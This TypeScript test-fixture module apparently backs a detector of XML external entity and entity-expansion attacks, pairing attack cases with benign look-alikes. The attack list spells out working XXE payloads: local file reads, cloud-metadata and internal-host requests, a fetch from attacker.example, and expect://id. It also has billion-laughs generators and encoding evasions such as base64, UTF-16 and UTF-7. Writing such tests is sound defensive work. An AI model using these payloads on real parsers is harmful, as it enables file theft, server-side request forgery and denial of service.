/** One document as an app gets it, `{}` where it puts the value. */
export interface Case {
  readonly says: string
  readonly value: string
  /** What the app parses; absent: the value alone. */
  readonly document?: string
  /** What the app puts into the document; absent: the value as it came. */
  readonly used?: string
  readonly fetches?: readonly ('entities' | 'dtd' | 'includes')[]
}

const file = 'file:///etc/hostname'
const external = `<!DOCTYPE r [<!ENTITY e SYSTEM "${file}">]><r>&e;</r>`
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le')
const swapped = (text: string): Buffer => utf16(text).swap16()

/** Levels of entities, each ten times the one before. */
export const laughs = (levels: number, times = 10): string => {
  const lines = ['<!ENTITY l0 "lol">']
  for (let level = 1; level <= levels; level += 1)
    lines.push(`<!ENTITY l${level} "${`&l${level - 1};`.repeat(times)}">`)
  return `<?xml version="1.0"?>\n<!DOCTYPE r [\n${lines.join('\n')}\n]>\n<r>&l${levels};</r>`
}
/** One long entity, used often. */
export const blowUp = (length: number, times: number): string =>
  `<!DOCTYPE r [<!ENTITY a "${'A'.repeat(length)}">]><r>${'&a;'.repeat(times)}</r>`

export const attacks: readonly Case[] = [
  { says: 'a file', value: external },
  { says: 'with a declaration before', value: `<?xml version="1.0" encoding="UTF-8"?>\n${external}` },
  { says: 'a public name and an address', value: external.replace('SYSTEM', 'PUBLIC "-//x//y"') },
  { says: 'an address', value: external.replace(file, 'http://169.254.169.254/latest/meta-data/') },
  { says: 'an address elsewhere', value: external.replace(file, 'https://attacker.example/x') },
  { says: 'a file in the folder', value: external.replace(file, 'secrets.txt') },
  { says: 'another scheme', value: external.replace(file, 'expect://id') },
  { says: 'single quotes, line breaks', value: external.replace(/ SYSTEM "(.*?)"/, "\n\tSYSTEM\r\n'$1'\n") },
  { says: 'an entity beside harmless ones', value: external.replace('[', '[<!ENTITY copy "&#169;"><!-- ]> -->') },
  { says: 'comments and instructions before', value: `<!-- <r> --><?a <!DOCTYPE ?>\n${external}` },
  { says: 'a quote in a comment before', value: `<!-- it's --><?a it"s?>${external}` },
  { says: 'in an attribute', value: `<!DOCTYPE r [<!ENTITY e SYSTEM "${file}">]><r a="&e;"/>` },
  { says: 'declared and not used', value: `<!DOCTYPE r [<!ENTITY e SYSTEM "${file}">]><r/>` },
  { says: 'other declarations before', value: external.replace('[', `[<!ELEMENT r ANY><!ATTLIST r a CDATA ">">\n`) },
  { says: 'through another entity', value: external.replace(']', '<!ENTITY f "&e;">]').replace('>&e;', '>&f;') },
  { says: 'declarations from outside', value: `<!DOCTYPE r [<!ENTITY % p SYSTEM "${file}"> %p;]><r/>` },
  {
    says: 'declarations from elsewhere',
    value: '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://a.example/x.dtd"> %p;]><r/>',
  },
  { says: 'space around the sign', value: `<!DOCTYPE r [<!ENTITY\n%\tp\nSYSTEM "${file}"> %p;]><r/>` },
  {
    says: 'a declaration in a declaration',
    value: `<!DOCTYPE r [<!ENTITY % p "<!ENTITY e SYSTEM '${file}'>"> %p;]><r>&e;</r>`,
  },
  {
    says: 'the same with its signs as numbers',
    value: `<!DOCTYPE r [<!ENTITY % p "&#60;!ENTITY &#x65; SYSTEM '${file}'&#x3e;"> %p;]><r>&e;</r>`,
  },
  {
    says: 'two deep',
    value: `<!DOCTYPE r [<!ENTITY % p "<!ENTITY &#37; q '&#60;!ENTITY e SYSTEM &#34;${file}&#34;>'> &#37;q;"> %p;]><r>&e;</r>`,
  },
  { says: 'a conditional section', value: external.replace(/\[(.*)\]>/, '[<![INCLUDE[$1]]>]>') },
  { says: 'a document type from a file', value: `<!DOCTYPE r SYSTEM "${file}"><r/>` },
  { says: 'a document type from elsewhere', value: '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>' },
  {
    says: 'from elsewhere with a public name',
    value: '<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://a.example/x.dtd"><r/>',
  },
  { says: 'from a service inside', value: '<!DOCTYPE r SYSTEM "http://10.0.0.5:8080/x.dtd"><r/>', fetches: [] },
  { says: 'from above', value: '<!DOCTYPE r SYSTEM "../../x.dtd"><r/>' },
  { says: 'a parser that fetches nothing', value: external, fetches: [] },
  {
    says: 'an inclusion',
    value: '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></r>',
  },
  {
    says: 'an inclusion under another name',
    value: `<r><include\nxmlns='http://www.w3.org/2001/XInclude' href='/etc/hostname'/></r>`,
    fetches: [],
  },
  {
    says: 'an inclusion in a part',
    document: '<r xmlns:x="http://www.w3.org/2001/XInclude">{}</r>',
    value: `<x:include href="${file}"/>`,
  },
  { says: 'nine levels of laughs', value: laughs(9) },
  { says: 'four levels of laughs', value: laughs(4) },
  { says: 'of nothing', value: laughs(9).replace('"lol"', '""') },
  { says: 'one long entity, often', value: blowUp(20_000, 1_000) },
  { says: 'in attributes', value: blowUp(5_000, 3_000).replaceAll('&a;', '<b c="&a;"/>') },
  { says: 'an entity that holds itself', value: '<!DOCTYPE r [<!ENTITY a "x&b;"><!ENTITY b "&a;y">]><r>&a;</r>' },
  {
    says: 'declarations that grow',
    value: `<!DOCTYPE r [<!ENTITY % a0 "<!-- x -->">${[1, 2, 3, 4, 5].map((n) => `<!ENTITY % a${n} "${`&#37;a${n - 1};`.repeat(20)}">`).join('')} %a5;]><r/>`,
  },
  { says: 'in a field', document: '<order>{}</order>', value: external },
  { says: 'a document type alone', document: '{}<r>&e;</r>', value: external.slice(0, external.indexOf(']>') + 2) },
  { says: 'a declaration alone', document: '<!DOCTYPE r [{}]><r>&e;</r>', value: `<!ENTITY e SYSTEM "${file}">` },
  { says: 'the address alone', document: '<!DOCTYPE r [<!ENTITY e SYSTEM "{}">]><r>&e;</r>', value: file },
  { says: 'in base64', value: base64(external), used: external },
  { says: 'in base64 with line breaks', value: base64(external).replace(/.{40}/g, '$&\r\n'), used: external },
  { says: 'in base64, wide', value: utf16(external).toString('base64'), used: external },
  { says: 'from a URL', value: encodeURIComponent(external), used: external },
  { says: 'from JSON', value: JSON.stringify({ xml: external }), used: external },
  { says: 'from a JSON string', value: JSON.stringify(external).replaceAll('<', '\\u003c'), used: external },
  { says: 'from a page', value: external.replaceAll('<', '&lt;').replaceAll('"', '&quot;'), used: external },
  { says: 'white space collapsed', value: external.replaceAll(' ', '\n   '), used: external },
  { says: 'in small letters on the way', value: external.replace('&e', '&E').replace(' e', ' E'), used: external },
  { says: 'UTF-16 read as bytes', value: utf16(`\ufeff${external}`).toString('latin1'), used: external },
  { says: 'UTF-16 in the document', value: external, used: utf16(external).toString('latin1') },
  { says: 'UTF-16 the other way round', value: external, used: swapped(external).toString('utf16le') },
  {
    says: 'UTF-7',
    value: `<?xml version="1.0" encoding="UTF-7"?>${external.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')}`,
  },
  { says: 'a beginning', value: external.slice(0, 60), fetches: [] },
  { says: 'cut off by the app', value: external + 'x'.repeat(50), used: external },
]

const svg =
  '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>'
const own = `<!DOCTYPE r [<!ENTITY e SYSTEM "${file}">]><r>&e;<name>{}</name></r>`

export const benign: readonly Case[] = [
  { says: 'a plain document', value: '<r a="1"><b>Maya &amp; Co</b></r>' },
  { says: 'a plain document type', value: '<!DOCTYPE html><html/>' },
  { says: 'a document type in small letters', value: '<!doctype html><p>hi' },
  { says: 'a name of old', value: '<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>' },
  { says: 'a drawing', value: svg },
  { says: 'a drawing for a parser that fetches', value: svg, fetches: ['entities', 'dtd'] },
  {
    says: 'a drawing with names',
    value: svg.replace(
      '.dtd">',
      '.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_xlink "http://www.w3.org/1999/xlink">]>',
    ),
  },
  {
    says: 'a page',
    value:
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
  },
  { says: 'an old page', value: '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN"><html></html>' },
  {
    says: 'a list of properties',
    value:
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
  },
  {
    says: 'a score',
    value:
      '<!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 4.0 Partwise//EN" "http://www.musicxml.org/dtds/partwise.dtd"><score-partwise/>',
  },
  { says: 'a definition beside it', value: '<!DOCTYPE note SYSTEM "note.dtd"><note/>' },
  {
    says: 'a definition elsewhere that nobody fetches',
    value: '<!DOCTYPE r SYSTEM "http://partner.example/r.dtd"><r/>',
    fetches: [],
  },
  {
    says: 'letters that everybody names',
    value:
      '<!DOCTYPE r [<!ENTITY % lat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %lat1;]><r/>',
  },
  {
    says: 'entities of its own',
    value: '<!DOCTYPE r [<!ENTITY copy "&#169;"><!ENTITY co "Maya &amp; Co &copy;">]><r>&co; &copy; &lt;</r>',
  },
  {
    says: 'an entity used often',
    value: `<!DOCTYPE r [<!ENTITY co "A company of some name Ltd.">]><r>${'<b>&co;</b>'.repeat(500)}</r>`,
  },
  { says: 'an entity that talks', value: '<!DOCTYPE r [<!ENTITY how "write SYSTEM and a file: name">]><r>&how;</r>' },
  {
    says: 'a picture',
    value: '<!DOCTYPE r [<!NOTATION gif SYSTEM "viewer.exe"><!ENTITY pic SYSTEM "a.gif" NDATA gif>]><r/>',
  },
  { says: 'a parameter of its own', value: '<!DOCTYPE r [<!ENTITY % text "(#PCDATA)"> <!ELEMENT r ANY>]><r/>' },
  { says: 'talk in CDATA', value: `<r><![CDATA[${external}]]></r>` },
  { says: 'talk in a comment', value: `<r><!-- ${external.replaceAll('--', '')} --></r>` },
  { says: 'talk in a comment of the document type', value: `<!DOCTYPE r [<!-- <!ENTITY e SYSTEM "${file}"> -->]><r/>` },
  { says: 'talk in text', value: `<r>${external.replaceAll('<', '&lt;').replaceAll('&e', '&amp;e')}</r>` },
  { says: 'talk in an attribute', value: `<r a="${external.replaceAll('<', '&lt;').replaceAll('"', '&quot;')}"/>` },
  {
    says: 'put in as text',
    document: '<r>{}</r>',
    value: external,
    used: external.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
  },
  { says: 'a document of the app', document: own, value: 'Maya' },
  { says: 'a document of the app and words of it', document: own, value: '<!ENTITY' },
  { says: 'a document of the app and its entity', document: own, value: 'e SYSTEM' },
  { says: 'an inclusion by the name alone', value: '<r><xi:include href="file:///etc/hostname"/></r>' },
  {
    says: 'an inclusion that nobody follows',
    value: '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="chapter.xml"/></r>',
    fetches: ['entities'],
  },
  {
    says: 'places of schemas',
    value: '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a file:///a.xsd"/>',
  },
  { says: 'words', value: 'ENTITY SYSTEM "file:///etc/passwd"', document: '<r>{}</r>' },
]

export const documentOf = ({ document = '{}', value, used }: Case): string =>
  document.replace('{}', () => used ?? value)
